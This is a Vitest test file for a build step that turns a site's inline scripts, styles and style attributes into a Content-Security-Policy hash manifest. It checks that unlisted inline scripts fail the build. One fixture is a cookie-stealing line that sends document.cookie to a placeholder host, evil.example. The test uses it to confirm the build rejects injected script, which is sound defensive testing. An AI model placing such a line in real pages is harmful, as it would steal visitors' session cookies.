import { createHash } from "node:crypto";
import { mkdtempSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { INLINE_SCRIPTS } from "../../app/csp/inline-scripts.ts";
import { THEME_HEAD_SCRIPT } from "../../app/components/shell/theme-toggle-script.ts";
import { ISLAND_LOADER } from "../../app/islands/island-loader.ts";
import { cspManifest, UnlistedInlineScriptError, writeCspManifest } from "./script-hashes.mjs";

const hash = (body) => `'sha256-${createHash("sha256").update(body).digest("base64")}'`;
const allow = (...bodies) => bodies.map((body) => ({ generator: "test", body }));

function site(files) {
  const client = mkdtempSync(join(tmpdir(), "hashes-"));
  for (const [file, html] of Object.entries(files)) {
    mkdirSync(join(client, file, ".."), { recursive: true });
    writeFileSync(join(client, file), html);
  }
  return client;
}

describe("given a build with pages, a not-found page and hashed assets", () => {
  it("records each HTML file's inline scripts, styles and style attributes, and skips assets, external scripts and data blocks", async () => {
    const client = site({
      "index.html":
        '<head><style>body{color:red}</style><script>a()</script><script src="/x.js"></script></head>' +
        '<body><table><tr><td style="text-align: start">1</td><td style="text-align: start">2</td></tr></table>' +
        '<span style="--c:&quot;x&quot;">3</span>' +
        '<script type="application/json" id="vantreo-islands">{"a":1}</script>' +
        '<script type="application/ld+json">{"@type":"Article"}</script></body>',
      "de/about/index.html": "<p>no script</p>",
      "404.html": '<script type="module">b()</script>',
      "assets/stray.html": "<script>c()</script>",
    });
    const file = join(client, "..", `hashes-${Date.now()}.json`);
    const manifest = await writeCspManifest(client, file, { allowedScripts: allow("a()", "b()") });
    expect(manifest).toEqual({
      "404.html": { scripts: [hash("b()")], styles: [], styleAttributes: [], trackers: true },
      "de/about/index.html": { scripts: [], styles: [], styleAttributes: [], trackers: true },
      "index.html": {
        scripts: [hash("a()")],
        styles: [hash("body{color:red}")],
        // Each value once, entity-decoded as the browser hashes it.
        styleAttributes: [hash("text-align: start"), hash('--c:"x"')],
        trackers: true,
      },
    });
    expect(JSON.parse(readFileSync(file, "utf8"))).toEqual(manifest);
  });

  it("marks the staff app's shells (a path rule of site-policy.mjs) as pages that load no tracker", async () => {
    const client = site({
      "desk/index.html": "<p>staff app</p>",
      "ar/desk/index.html": "<p>staff app</p>",
      "desk/spam/index.html": "<p>not a shell</p>",
      "index.html": "<p>home</p>",
    });
    const manifest = await cspManifest(client, { allowedScripts: [] });
    expect(manifest["desk/index.html"]?.trackers).toBe(false);
    expect(manifest["ar/desk/index.html"]?.trackers).toBe(false);
    expect(manifest["desk/spam/index.html"]?.trackers).toBe(true);
    expect(manifest["index.html"]?.trackers).toBe(true);
  });

  it("refuses a page that declares a <meta> policy of its own", async () => {
    const client = site({
      "desk/index.html":
        '<head><meta http-equiv="Content-Security-Policy" content="connect-src \'self\'"></head><p>desk</p>',
    });
    await expect(cspManifest(client, { allowedScripts: [] })).rejects.toThrow(
      /own <meta> Content-Security-Policy.*desk\/index\.html/,
    );
  });
});

describe("an executable inline script no known generator wrote", () => {
  it("fails the build, naming each page and a snippet of the script", async () => {
    const client = site({
      "index.html": "<script>a()</script>",
      "insights/post/index.html":
        "<p>text</p><script>fetch('https://evil.example/?'+document.cookie)</script>",
      "de/index.html": '<script type="text/javascript">a();b()</script>',
    });
    const failure = cspManifest(client, { allowedScripts: allow("a()") });
    await expect(failure).rejects.toBeInstanceOf(UnlistedInlineScriptError);
    await expect(failure).rejects.toThrow(
      /2 inline script\(s\) not on the list[\s\S]*de\/index\.html: <script>a\(\);b\(\)<\/script>[\s\S]*insights\/post\/index\.html: <script>fetch\('https:\/\/evil\.example\/\?'\+document\.cookie\)<\/script>/,
    );
  });

  it("fails the build also inside a <template> the island loader would insert, and for a module or import map", async () => {
    for (const html of [
      '<template id="vantreo-island-scripts"><script>x()</script></template>',
      '<script type="module">import "/x.js"</script>',
      '<script type="importmap">{"imports":{}}</script>',
    ]) {
      const client = site({ "index.html": html });
      await expect(cspManifest(client, { allowedScripts: [] }), html).rejects.toBeInstanceOf(
        UnlistedInlineScriptError,
      );
    }
  });
});

describe("the list of known generators (app/csp/inline-scripts.ts)", () => {
  it("holds exactly the theme script and the island loader, as the components render them", () => {
    expect(INLINE_SCRIPTS.map(({ body }) => body)).toEqual([THEME_HEAD_SCRIPT, ISLAND_LOADER]);
    for (const { generator } of INLINE_SCRIPTS) expect(generator).not.toBe("");
  });
});
